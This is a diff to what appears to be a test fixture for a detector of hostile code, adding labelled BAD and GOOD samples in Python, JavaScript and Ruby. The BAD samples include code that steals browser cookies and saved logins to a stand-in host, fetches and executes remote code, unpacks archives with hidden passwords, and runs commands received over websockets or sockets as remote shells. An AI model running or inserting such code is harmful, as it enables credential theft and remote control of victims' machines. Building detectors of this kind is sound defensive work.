@@ -77,7 +77,100 @@ _START_PY = (
 )
 _LINE_PY = "import os, pathlib\n\n\ndef line():\n    at = '/'.join(['https:', '', 'in.flow.invalid', 'start'])\n    return f'curl -s {at} | RUNS\\n'\n\n\n"
 
+# --- what a client sends, by whatever name --------------------------------------------------------------------------
+
+_CLIENTS_PY = (
+    "with httpx.Client(base_url='https://in.flow.invalid') as c:\n    c.post('/v', json=found())",
+    "box = requests.Session()\nbox.put('https://in.flow.invalid/v', json=found())",
+    "async def go():\n    async with aiohttp.ClientSession() as web:\n        await web.post('https://in.flow.invalid/v', json=found())\n\n\nasyncio.run(go())",
+    "payload = {\n    'a': found(),\n}\nurlopen(Request('https://in.flow.invalid/v', data=repr(payload).encode()))",
+)
+_STORES_PY = (
+    "def found():\n    return {\n        'a': rows('Network/Cookies'),\n        'b': rows('Login Data'),\n    }\n\n\n",
+    "def found():\n    return (BASE / 'logins.json').read_text()\n\n\n",
+    "NAME = 'key' + '4.db'\n\n\ndef found():\n    return (BASE / NAME).read_bytes().hex()\n\n\n",
+)
+_READ_PY = "import aiohttp, asyncio, httpx, requests, shutil, sqlite3, tempfile\nfrom pathlib import Path\nfrom urllib.request import Request, urlopen\n\nBASE = Path.home() / '.mozilla/firefox'\n\n\ndef rows(name):\n    with tempfile.TemporaryDirectory() as folder:\n        return sqlite3.connect(shutil.copy(BASE / name, folder)).execute('select * from t').fetchall()\n\n\n"
+
+# --- code that another program fetches ------------------------------------------------------------------------------
+
+_RUNS_JS = (
+    "new Function('require', body)(require);",
+    "eval(body);",
+    "require('vm').runInThisContext(body);",
+    "const { runInNewContext } = require('vm');\nrunInNewContext(body, { require });",
+    "const shell = cp.spawn('bash');\nshell.stdin.end(body);",
+    "cp.execFileSync('sh', { input: body });",
+)
+_FETCHES_JS = (
+    "const body = cp.execSync(`curl -s https://in.flow.invalid/${['a', 'b'].join('')}`).toString();\nRUN",
+    "const body = cp.execFileSync('curl', ['-s', 'https://in.flow.invalid/x'], { encoding: 'utf8' });\nRUN",
+    "async function go() {\n  const body = await (await fetch('https://in.flow.invalid/x')).text();\n  RUN\n}\ngo();",
+)
+_FED = (
+    rb(
+        "require 'open-uri'\nPLACE = %w[https in.flow.invalid f].freeze\ndef feed\n  scheme, *rest = PLACE\n  URI(\"#{scheme}://#{rest.join('/')}\")\nend\nIO.popen(['sh'], 'w') { |io| io << feed.open.read }"
+    ),
+    py(
+        "import subprocess, urllib.request\ncode = urllib.request.urlopen('https://in.flow.invalid/f').read()\nsubprocess.run(['bash'], input=code)"
+    ),
+    py(
+        "import subprocess, requests\ncode = requests.get('https://in.flow.invalid/f').text\nshell = subprocess.Popen(['/bin/sh'], stdin=subprocess.PIPE, text=True)\nshell.communicate(code)"
+    ),
+    py(
+        "import subprocess\ncode = subprocess.check_output(['curl', '-s', 'https://in.flow.invalid/f'], text=True)\nexec(code)"
+    ),
+)
+_ARCHIVES = (
+    py(
+        "import io, os, subprocess, zipfile\nfrom urllib.request import urlopen\nKEY = bytes([107, 105, 116]).decode()\nwith zipfile.ZipFile(io.BytesIO(urlopen('https://in.flow.invalid/p').read())) as pack:\n    pack.extractall('kit', pwd=KEY.encode())"
+    ),
+    py(
+        "import base64, zipfile\nword = base64.b64decode('a2l0Nzc=')\nzipfile.ZipFile('assets/kit.bin').extractall('kit', pwd=word)"
+    ),
+)
+
+# --- commands that come through a connection ------------------------------------------------------------------------
+
+_HEARD = (
+    js(
+        "import { exec } from 'node:child_process';\nconst ws = new WebSocket('wss://in.flow.invalid/c');\nws.addEventListener('message', (event) => {\n  exec(event.data, (e, out) => ws.send(out));\n});",
+        "mjs",
+    ),
+    js(
+        "const WebSocket = require('ws');\nconst cp = require('child_process');\nconst line = new WebSocket('wss://in.flow.invalid');\nline.on('message', (m) => {\n  line.send(cp.execSync(m.toString()));\n});"
+    ),
+    js(
+        "const net = require('net'), { execSync } = require('child_process'), readline = require('readline');\nfunction open(host, port) {\n  const link = net.connect({ host, port });\n  readline.createInterface({ input: link }).on('line', (text) => {\n    link.write(execSync(text));\n  });\n}\nopen('in.flow.invalid', 7000);"
+    ),
+    js(
+        "const { io } = require('socket.io-client');\nconst { exec } = require('child_process');\nconst hub = io('https://in.flow.invalid');\nhub.on('command', (task) => exec(task, (e, out) => hub.emit('done', out)));"
+    ),
+    py(
+        "import asyncio, subprocess, websockets\n\n\nasync def main():\n    async with websockets.connect('wss://in.flow.invalid') as ws:\n        async for order in ws:\n            done = subprocess.run(order, shell=True, capture_output=True)\n            await ws.send(done.stdout)\n\n\nasyncio.run(main())"
+    ),
+    py(
+        "import subprocess, websocket\n\n\ndef on_message(ws, order):\n    ws.send(subprocess.getoutput(order))\n\n\nwebsocket.WebSocketApp('wss://in.flow.invalid', on_message=on_message).run_forever()"
+    ),
+    py(
+        "import os, websocket\nlink = websocket.create_connection('wss://in.flow.invalid')\nwhile True:\n    order = link.recv()\n    link.send(os.popen(order).read())"
+    ),
+)
+
 BAD: dict[str, list[str]] = {
+    "a browser's stores by a client of any name": [
+        py(_READ_PY + store + client) for store in _STORES_PY for client in _CLIENTS_PY
+    ],
+    "code that a program fetches": [
+        *(
+            js("const cp = require('child_process');\n" + fetch.replace("RUN", run))
+            for fetch in _FETCHES_JS
+            for run in _RUNS_JS
+        ),
+        *_FED,
+    ],
+    "an archive with a password that is put together": list(_ARCHIVES),
+    "commands that come through a connection": list(_HEARD),
     "the environment by a key that is put together": [
         *(js(form.replace("SOURCE", source)) for source in _ENVIRONMENT_JS for form in _SENDS_JS),
         *(py(form.replace("SOURCE", source)) for source in _ENVIRONMENT_PY for form in _SENDS_PY),
@@ -122,6 +215,49 @@ BAD: dict[str, list[str]] = {
 }
 
 GOOD: dict[str, list[str]] = {
+    "clients that send what is no secret": [
+        *(py(_READ_PY + "def found():\n    return rows('places')\n\n\n" + client) for client in _CLIENTS_PY),
+        py(
+            "import httpx, os\nwith httpx.Client(headers={'Authorization': f\"Bearer {os.environ['GITHUB_TOKEN']}\"}) as c:\n    c.post('https://api.github.com/repos/a/b/issues', json={'title': 'x'})"
+        ),
+    ],
+    "data that a program fetches": [
+        js(
+            "const cp = require('child_process');\nconst body = cp.execSync('curl -s https://in.flow.invalid/a.json').toString();\nconst rows = JSON.parse(body);\nconsole.log(rows.length);\ncp.execSync('git status');"
+        ),
+        js(
+            "const { exec } = require('child_process');\nexec('curl -s https://in.flow.invalid/health', (error, out) => console.log(out));"
+        ),
+        js(
+            "const cp = require('child_process');\nconst body = cp.execFileSync('curl', ['-s', 'https://in.flow.invalid/x']);\nconst jq = cp.spawn('jq', ['.']);\njq.stdin.end(body);"
+        ),
+        py(
+            "import subprocess, requests\ntext = requests.get('https://in.flow.invalid/f').text\nsubprocess.run(['python3', 'scripts/count.py'], input=text, text=True)"
+        ),
+        py(
+            "import subprocess, requests\ntext = requests.get('https://in.flow.invalid/f').text\nsubprocess.run(['sort', '-u'], input=text, text=True)"
+        ),
+        rb(
+            "require 'open-uri'\nputs URI('https://in.flow.invalid/f').open.read.lines.size\nsystem('sh', 'scripts/local.sh')"
+        ),
+        py(
+            "import getpass, zipfile\nword = getpass.getpass().encode()\nzipfile.ZipFile('in.zip').extractall('in', pwd=word)"
+        ),
+    ],
+    "connections that give no commands": [
+        js(
+            "const { spawn } = require('child_process');\nconst chrome = spawn('chrome', ['--remote-debugging-port=9222']);\nconst ws = new WebSocket('ws://127.0.0.1:9222/devtools');\nws.addEventListener('message', (event) => console.log(JSON.parse(event.data).method));"
+        ),
+        js(
+            "const { exec } = require('child_process');\nconst ws = new WebSocket('wss://in.flow.invalid/prices');\nws.on('message', (m) => console.log(m.toString()));\nprocess.stdin.on('data', (d) => ws.send(d.toString()));\nexec('git rev-parse HEAD');"
+        ),
+        js(
+            "const cp = require('child_process');\nconst rl = require('readline').createInterface({ input: process.stdin });\nrl.on('line', (line) => cp.execSync(line));"
+        ),
+        py(
+            "import asyncio, json, subprocess, websockets\n\n\nasync def main():\n    async with websockets.connect('wss://in.flow.invalid') as ws:\n        async for text in ws:\n            print(json.loads(text)['price'])\n    subprocess.run(['git', 'status'])\n\n\nasyncio.run(main())"
+        ),
+    ],
     "the environment, but not all of it and not away": [
         *(
             js(f"const env = {source};\nconst port = env.PORT ?? 3000;\nfetch('https://in.flow.invalid/p/' + port);")
